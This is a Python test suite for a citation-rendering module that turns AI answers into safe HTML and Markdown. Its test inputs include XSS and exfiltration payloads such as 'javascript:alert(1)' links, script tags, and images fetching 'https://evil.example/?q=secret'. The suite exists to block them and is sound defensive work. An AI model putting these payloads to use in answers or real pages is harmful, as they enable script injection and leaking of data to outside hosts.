"""Markdown made harmless: every citation a chip, and nothing else one, whatever the answer holds."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ragnb.display.markup import closed, to_html, to_markdown, to_plain
from ragnb.events import Cited, Quote
from tests.display.test_display import check_safe
from tests.golden.make import visible

MARKER = re.compile(r"\[(\d+)\]")
OVERRIDE = "\u202e"
ALLOWED = ("https://", "http://", "mailto:")

# What a host does with Markdown at its most obedient.
HOST = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def quote(number=1, text="R"):
    return Quote(number, "c", 0, len(text), text)


def marked(text):
    """A citation for each ``[n]`` in the text."""
    return [
        Cited(start=0, end=found.start(), quotes=(quote(int(found[1])),), marker=found.span())
        for found in MARKER.finditer(text)
    ]


def render(text, citations=None):
    return check_safe(to_html(text, marked(text) if citations is None else citations))


def chips(page):
    return [chip.text_content() for chip in page.xpath("//sup[@class='ragnb-chip']")]


def tokens(markdown):
    found = list(HOST.parse(markdown))
    for token in found:
        yield token
        found.extend(token.children or ())


def loads(markdown):
    """What a host would fetch, run or link to, other than pages and mailboxes."""
    for token in tokens(markdown):
        if token.type in ("image", "html_inline", "html_block"):
            yield token.content
        elif token.type == "link_open" and not token.attrs["href"].lower().startswith(ALLOWED):
            yield token.attrs["href"]


FORGED = [
    "&#xE000;0&#xE001;",
    "&#57344;0&#57345;",
    "`&#xE000;0&#xE001;`",
    "    &#xE000;0&#xE001;",
    '[x](https://ok.example "&#xE000;0&#xE001;")',
    "![&#xE000;0&#xE001;](x)",
    "[&#xE000;0&#xE001;](https://ok.example/&#xE000;0&#xE001;)",
    "<https://ok.example/%EE%80%800%EE%80%81>",
    "&#xE000;99&#xE001; \ue0000\ue001",
    "&#44;0x0123456789abcdef&#44;",
]


@pytest.mark.parametrize("text", FORGED)
@pytest.mark.parametrize("real", ["", "word [1] "])
def test_no_text_forges_a_chip(text, real):
    """Whatever the text decodes to, there are the chips of the real citations and no other."""
    assert chips(render(real + text, marked(real))) == (["[1]"] if real else [])


def test_private_characters_stay():
    """Characters of the private use area, such as an icon font's, are text."""
    assert "\ue000 \uf8ff" in to_html("\ue000 \uf8ff", [])


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold**[1]", "<p><strong>bold</strong><sup></p>"),
        ("**bold.**[1]", "<p><strong>bold.</strong><sup></p>"),
        ('*"it"*[1]', '<p><em>"it"</em><sup></p>'),
        ("*it*[1]", "<p><em>it</em><sup></p>"),
        ("**x**[1].", "<p><strong>x</strong><sup>.</p>"),
        ("**x!**[1][2].", "<p><strong>x!</strong><sup><sup>.</p>"),
        ("**x [1]**.", "<p><strong>x <sup></strong>.</p>"),
        ("~~(x)~~[1]", "<p><s>(x)</s><sup></p>"),
        ("word[1]**bold**", "<p>word<sup><strong>bold</strong></p>"),
        ('word[1]**"bold"**', '<p>word<sup><strong>"bold"</strong></p>'),
        ("[1] word", "<p><sup> word</p>"),
        ("\\[1] word", "<p><sup> word</p>"),
        ("- **x.**[1]\n- [2]", "<ul><li><strong>x.</strong><sup></li><li><sup></li></ul>"),
        ("# **x.**[1]", "<h1><strong>x.</strong><sup></h1>"),
        ("> **x.**[1]", "<blockquote><p><strong>x.</strong><sup></p></blockquote>"),
        (
            "| a[1] |\n| --- |\n| **x.**[2] |",
            "<table><thead><tr><th>a<sup></th></tr></thead>"
            "<tbody><tr><td><strong>x.</strong><sup></td></tr></tbody></table>",
        ),
        ("![a [1]](x)", "<p><span>[image: a <sup>]</span></p>"),
    ],
)
def test_chips_leave_markdown_alone(text, html):
    """A citation neither breaks what stands around it, nor is broken by it."""
    shown = re.sub("<sup.*?</sup>", "<sup>", to_html(text, marked(text)))
    shown = re.sub('<h1 style="[^"]*">', "<h1>", shown)
    assert re.sub(r">\s+<", "><", shown).strip() == html


def links(page):
    """Where the answer's own links lead."""
    return page.xpath("//a[@target]/@href")


@pytest.mark.parametrize("address", ["https://ok.example/a", "javascript:a"])
def test_a_chip_in_a_link(address):
    """A chip, which is a link itself, stands behind a link whose text it was in."""
    text = f"[the page [1] or *so* [2]]({address}) x"
    page = render(text)
    assert links(page) in (["https://ok.example/a"], [])
    assert chips(page) == ["[1]", "[2]"]
    assert not page.xpath("//a//a")
    assert not links(page) or page.text_content() == "the page  or so  (ok.example)[1][2] x\n"


@pytest.mark.parametrize("marker", ["[1]", "[1, 2]", "【4†L1-L9】"])
@pytest.mark.parametrize(
    "text", ["`a{}`", "x `` ` {} ``", "```\na{}\n```", "~~~ python\n{}", "    a{}", "- `{}`"]
)
def test_markers_in_code_stay_as_they_are(text, marker):
    """Code is shown with the marker that stood in it, and no chip."""
    text = text.format(marker)
    start = text.index(marker)
    citations = [Cited(start=0, end=start, quotes=(quote(),), marker=(start, start + len(marker)))]
    page = render(text, citations)
    assert not chips(page)
    assert marker in page.xpath("string(//code)")
    assert to_markdown(text, citations) == to_plain(text, citations) == text


@pytest.mark.parametrize("text", ["[x](https://ok.example/[1])", "<https://ok.example/?a[1]=2>"])
def test_markers_in_addresses_stay_as_they_are(text):
    """A marker in an address does not change where the link leads."""
    page = render(text)
    (href,) = links(page)
    assert href.replace("%5B1%5D", "[1]") in text
    assert not chips(page)
    assert "," not in page.text_content()


@pytest.mark.parametrize(
    "href",
    [
        "http://[",
        "http://[a:b]/",
        "http://a:99999/",
        "http://a:b:c/",
        "http://[::1",
        "http://a℀b/",
        "http://%65vil.example/",
        "https:evil.example",
        "https:///evil.example",
        "mailto:",
        "mailto:a@ok.example?bcc=b@evil.example",
        "//evil.example",
        "http://",
        ":",
        "&#x202e;",
    ],
)
def test_odd_addresses_lead_nowhere(href):
    """An address whose host cannot be told is no link."""
    assert not render(f"[x]({href}) <{href}>\n\n[y]\n\n[y]: {href}").xpath("//@href")


@pytest.mark.parametrize("marker", [(5, 2), (-5, -2), (2, 99), (99, 100), (-1, 2)])
def test_citations_outside_the_text_have_no_place(marker):
    """A citation that lies outside of the text leaves it as it is."""
    for citations in (
        [Cited(start=0, end=3, quotes=(quote(),), marker=marker)],
        [Cited(start=0, end=99, quotes=(quote(),))],
        [Cited(start=0, end=-1, quotes=(quote(),))],
        [Cited(start=0, end=3, quotes=(), marker=(3, 4))],
    ):
        assert to_html("abcdef", citations) == "<p>abcdef</p>\n"
        assert to_markdown("abcdef", citations) == to_plain("abcdef", citations) == "abcdef"


def test_a_citation_of_code_ends_no_code():
    """A citation without a marker that ends with a code block is shown below it."""
    text = "```\na\n```\n\n**b** "
    cited = [Cited(start=0, end=end, quotes=(quote(),)) for end in (9, 10, 16, 17)]
    page = render(text, cited)
    assert page.xpath("string(//code)") == "a\n"
    assert page.xpath("//strong/text()") == ["b"]
    assert len(chips(page)) == 4
    assert "<sup" not in to_html(text, [Cited(start=0, end=6, quotes=(quote(),))])


@pytest.mark.parametrize("number", [0, -1, 10**30])
def test_odd_numbers(number):
    """A number that no source has is shown as it is."""
    assert chips(render("ab", [Cited(start=0, end=1, quotes=(quote(number),))])) == [f"[{number}]"]


@pytest.mark.parametrize(
    "text",
    [
        ">" * 5000,
        "- " * 5000,
        "*" * 20_000,
        "[" * 20_000,
        "![" * 10_000,
        "[a" * 5000 + "](b)" * 5000,
        "`" * 20_000,
        "a**b" * 10_000,
        "<a " * 10_000,
        "\\" * 20_000,
        "&#x" * 10_000,
        "[a]: <b\n" * 5000,
        "[1]" * 5000,
        "`[1]`" * 2000,
        "wörd " * 100_000,
        "-" * 20_000 + "x",
        "1." * 10_000 + "x",
        "~~~\n" + "~" * 20_000 + "x",
        "\n" * 20_000 + "x",
    ],
    ids=lambda text: text[:6],
)
def test_pathological_texts(text):
    """Neither depth nor length stops the rendering."""
    citations = marked(text)
    beside = [Cited(start=0, end=end, quotes=(quote(),)) for end in range(1, len(text), len(text) // 9)]
    for cited in (citations, beside):
        check_safe(to_html(text, cited, [(len(text) // 2, "seam"), (len(text), "seam")]))
        assert not list(loads(to_markdown(text, cited)))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\ud800b", "a\ufffdb"),
        ("\ud83d\ude00", "😀"),
        ("a\x00b\x1b[31mc\x9b", "ab[31mc"),
        (f"a{OVERRIDE}b\u2066c", "abc"),
        ("👩\u200d🚀 שלום مرحبا\tx", "👩\u200d🚀 שלום مرحبا\tx"),
    ],
)
def test_unseen_characters_go(text, shown):
    """Control characters and bidi overrides go; joined emoji, right-to-left text and tabs stay."""
    citations = [Cited(start=0, end=len(text), quotes=(quote(text=text),))]
    assert to_markdown(text, citations) == to_plain(text, citations) == shown + "[1]"
    html = to_html(text, citations)
    assert f">{shown}<sup" in html
    assert f'title="{shown}"'.replace("\t", " ") in html


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/a.png",
        "![r]\n\n> [r]:\n> https://evil.example/a.png",
        "!\x01[x](https://evil.example/?q=secret)",
        "\\![x](https://evil.example/a.png)",
        "\\\\![x](https://evil.example/a.png)",
        "[![x](https://evil.example/a.png)](https://evil.example)",
        "<img src=https://evil.example/a.png>",
        "\\\\<img src=https://evil.example/a.png>",
        "<!-- a -->\n<img src=https://evil.example/a.png>",
        "[x](javascript:alert(1))",
        "[x]( <javascript:alert(1)>)",
        "[x](java&#115;cript:alert(1))",
        "[x](//evil.example)",
        "[x](data:text/html,a)",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        # What looks like code, but is none once what stands before it is text.
        "<https://a`b> `![x](https://evil.example)`",
        "![a](http://b`c) `![x](https://evil.example)`",
        "[a](b`c) `![x](https://evil.example)`",
        "[a](http://b`c) `![x](https://evil.example)`",
        '[a](http://b "`") ![x](https://evil.example) `',
        "<div>\n```\n<img src=https://evil.example>\n```\n</div>",
        "<pre>\n\n    ![x](https://evil.example)\n\n</pre>",
        "`\\` ![x](https://evil.example) `",
        "`a\n<img src=https://evil.example>`",
        "> `a\n> <script>alert(1)</script>`",
    ],
)
def test_markdown_loads_nothing(text):
    """In Markdown, too, an answer loads no image, holds no HTML and links to pages and mailboxes only."""
    assert not list(loads(to_markdown(text, [])))


def test_what_is_harmless_in_markdown_stays():
    """Links to pages, comparisons, exclamations and code are left as they were written."""
    text = (
        "**Yes!** 1 < 2 & a<b: [docs](https://ok.example), f(x), *[n]*, mail [us](mailto:a@ok.example).\n\n"
        "`![x](y)` and ``<img>`` [1]\n\n```html\n<img src=x> [a]: b [c](d)\n```\n\n    ![x](y)\n"
    )
    assert to_markdown(text, marked(text)) == text.replace("a<b", "a&lt;b")


@pytest.mark.parametrize(
    "text",
    ["Dogs(javascript:x)", "Dogs(https://evil.example)", "Dogs: x", "Dogs[r](javascript:x)", "Dogs!"],
)
@pytest.mark.parametrize("end", [0, 4, 5, 7])
def test_numbers_are_no_links_in_markdown(text, end):
    """What stands after a citation's number cannot make a link of it."""
    text += "\n\n[1]: https://evil.example"
    markdown = to_markdown(text, [Cited(start=0, end=end, quotes=(quote(),))])
    assert "[1]" in markdown
    assert not [token for token in tokens(markdown) if token.type in ("link_open", "image")]


def test_a_bidi_override_as_an_entity():
    """An override that only a host would decode is no override there either."""
    for text in ("a&#x202E;b", "a&#8238;b", "a&#x0002067;b"):
        rendered = HOST.render(to_markdown(text, []))
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", rendered)


WORDS = r"""
![ [ ]( ](http:// ](https://[ ](javascript: ) ]: [1] [2] < <a > <img/src=x> <https:// <script> ` `` ``` ~~~
* ** _ ~~ \ | |-| &lt; &#x60; &#xE000; & " ( : ! a é . # 1. - >
"""
LINES = ["\n", "\n\n", "\n    ", "\n> ", "\n- ", "\n```\n", "\n~~~\n", "\n<!--", " ", "\t", "\r\n"]
ODD = ["\x00", "\x1b", "\ud800", "\udc00", "\ue000", OVERRIDE, "\ufffe"]
PIECES = st.sampled_from([*WORDS.split(), *LINES, *ODD])
TEXTS = st.lists(PIECES | st.text(max_size=3), max_size=40).map("".join) | st.text()
SPOTS = st.integers(-3, 60)
CITED = st.builds(
    Cited,
    start=st.just(0),
    end=SPOTS,
    quotes=st.lists(st.builds(quote, st.integers(-1, 12), st.text()), max_size=2).map(tuple),
    marker=st.none() | st.tuples(SPOTS, SPOTS),
)


@given(TEXTS, st.lists(CITED, max_size=4))
@example("[x](http://[a:b]/)", [])
def test_any_answer_is_rendered_safely(text, citations):
    """Any text with any citations is rendered; no tag, attribute or address but the allowed ones."""
    page = render(text, citations)
    numbers = ["".join(f"[{q.number}]" for q in cited.quotes) for cited in citations]
    for chip in chips(page):
        numbers.remove(chip)


@given(TEXTS)
def test_any_marked_answer_is_rendered_safely(text):
    """The same where the citations are those that stand in the text."""
    assert len(chips(render(text))) <= len(marked(text))


WRITTEN = st.sampled_from(
    ["word", "**b**", "*i.*", "[1]", "[2]", " x", "\n\n", "\n- ", '"', ".", "(x)", "&#xE000;"]
)


@given(st.lists(WRITTEN).map("".join))
def test_as_many_chips_as_citations(text):
    """Where there is neither code nor a link, each citation is a chip, in order."""
    assert chips(render(text)) == [found[0] for found in MARKER.finditer(text)]


@given(TEXTS, st.lists(CITED, max_size=4))
def test_any_markdown_loads_nothing(text, citations):
    """No text with any citations makes a host load or link what it should not."""
    markdown = to_markdown(text, citations)
    assert not list(loads(markdown))
    assert to_markdown(markdown, []) == markdown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Refunds take fi¦ve days.", "Refunds take fi[seam]ve days."),
        ("**Refunds¦ take** days.", "Refunds[seam] take days."),
        ("x **¦Refunds** take", "x [seam]Refunds take"),
        ("One. ¦Two.", "One.[seam] Two."),
        ("One.\n\n¦Two.", "One.[seam] Two."),
        ("One.\n\n# ¦Two", "One.[seam] Two"),
        ("One.\n\n¦# Two", "One.[seam] Two"),
        ("- one\n- ¦two", "one[seam] two"),
        ("- one\n¦- two", "one[seam] two"),
        ("- one\n  - ¦two", "one[seam] two"),
        ("One\n===¦\n\ntwo", "One[seam] two"),
        ("One\n\n***\n¦two", "One [seam] two"),
        ("| a | b |\n| - ¦| - |\n| 1 | 2 |", "a b[seam] 1 2"),
        ("| a | b |\n| - | - |\n¦| 1 | 2 |", "a b[seam] 1 2"),
        ("| a | b |\n| - | - |\n| 1 | 2 |\n¦", "a b 1 2[seam]"),
        ("| a | b |\n| - | - |\n| 1 ¦| 2 |", "a b 1[seam] 2"),
        ("| a |\n| - |\n| 1 \\|¦", "a 1 |[seam]"),
        ("a *¦*b** c", "a [seam]b c"),
        ("[text]¦(https://ok.example) x", "text (ok.example)[seam] x"),
        ("[text](https://ok¦.example) x", "text (ok.example)[seam] x"),
        ("[te¦xt](https://ok.example) x", "text (ok.example)[seam] x"),
        ("x [1¦] y", "x [1][seam] y"),
        ("```py¦thon\na\n```", "a [seam]"),
        ("```\na¦b\n```\nc", "a[seam]b c"),
        ("```\na\n¦b\n```\nc", "a [seam]b c"),
        ("```\na\n```\n\n¦c", "a [seam] c"),
        ("```\na\n```¦\nc", "a [seam] c"),
        ("    a\n    ¦b\n\nc", "a[seam] b c"),
        ("    a\n\n¦c", "a [seam] c"),
        ("x `a¦b` y", "x a[seam]b y"),
        ("> one¦\n> two", "one[seam] two"),
        ("¦# Title", "[seam] Title"),
        ("¦", "[seam]"),
    ],
)
def test_a_seam_breaks_nothing(text, shown):
    """A seam stands behind the word before it, and what is around it stays what it is."""
    offset, text = text.index("¦"), text.replace("¦", "")
    citations = marked(text)
    html = to_html(text, citations, [(offset, "seam")])
    assert visible(html) == shown
    page = check_safe(html)
    assert len(page.xpath("//span[@class='ragnb-seam']")) == 1
    without = check_safe(to_html(text, citations))
    assert [e.tag for e in without.iter() if e.tag not in ("p", "span")] == [
        e.tag for e in page.iter() if e.tag not in ("p", "span")
    ]


def test_seams_in_words():
    """A seam is told in Markdown and plain text too, at its place, and is no link there."""
    text, seams = "Five da(javascript:x) days", [(7, "lost, resumed with [x]")]
    assert to_plain(text, [], seams) == "Five da[lost, resumed with [x]](javascript:x) days"
    assert not list(loads(to_markdown(text, [], seams)))
    assert "Five da[lost" in to_markdown(text, [], seams)


@given(TEXTS, st.lists(CITED, max_size=3), st.lists(st.tuples(SPOTS, st.text(max_size=9)), max_size=3))
def test_any_seam_is_shown_safely(text, citations, seams):
    """Each seam of any text is shown once, whatever it says and wherever it is."""
    page = check_safe(to_html(text, citations, seams))
    assert len(page.xpath("//span[@class='ragnb-seam']")) == len(seams)
    assert not list(loads(to_markdown(text, citations, seams)))


@pytest.mark.parametrize(
    ("text", "words", "shown"),
    [
        ("| a | b |\n| - | - |\n| 1 | 2 |\n\nx", "| 1 | 2 |", "a b 1 2[1] x"),
        ("| a | b |\n| - | - |\n| 1 | 2\n\nx", "| 1 | 2", "a b 1 2[1] x"),
        ("a | b\n--- | ---\n1 | 2\n3 | 4", "1 | 2\n", "a b 1 2[1] 3 4"),
        ("**bold**\n", "**bold**\n", "bold[1]"),
        ("One\n---\n\ntwo", "One\n---\n", "One[1] two"),
        ("- a\n- b\n\n", "- a\n- b\n\n", "a b[1]"),
    ],
)
def test_a_citation_without_a_marker_is_always_seen(text, words, shown):
    """Where the provider reports a citation beside the text, its chip is in the cell, item or line it ends."""
    end = text.index(words) + len(words)
    assert visible(to_html(text, [Cited(start=0, end=end, quotes=(quote(),))])) == shown


@pytest.mark.parametrize("mark", ["> ", "- ", "1. "])
def test_what_lies_deep_is_shown(mark):
    """Words within many lists or quotations are not left out."""
    text = "".join(mark * depth + f"word{depth}\n\n" for depth in range(1, 60, 7)) + mark * 200 + "deepest"
    shown = visible(to_html(text, []))
    assert "deepest" in shown
    assert all(f"word{depth}" in shown for depth in range(1, 60, 7))


def test_formulas_are_left_as_written():
    """Maths stays legible: nothing in it is emphasised, and no backslash is lost."""
    text = r"So \(a*b*c_1 \\ d\) and \[x\] cost $5 or $6, \(open *it*"
    assert visible(to_html(text, [])) == r"So \(a*b*c_1 \\ d\) and \[x\] cost $5 or $6, (open it"


@pytest.mark.parametrize(
    ("text", "end"),
    [
        ("a\n```py\nb", "\n```"),
        ("~~~~\nb\n~~~", "\n~~~~"),
        ("```\nb\n```", ""),
        ("- ```\n  b", ""),
        ("b", ""),
    ],
)
def test_open_code_is_closed(text, end):
    """Behind code that was never ended, something new may follow."""
    assert closed(text) == text + end


def test_right_to_left():
    """Paragraphs of an answer that is read from right to left begin there, also where the host says left."""
    assert to_html("שלום", []) == '<p style="text-align:right">שלום</p>\n'
    assert to_html("1. Hi שלום", []).count("style") == 0
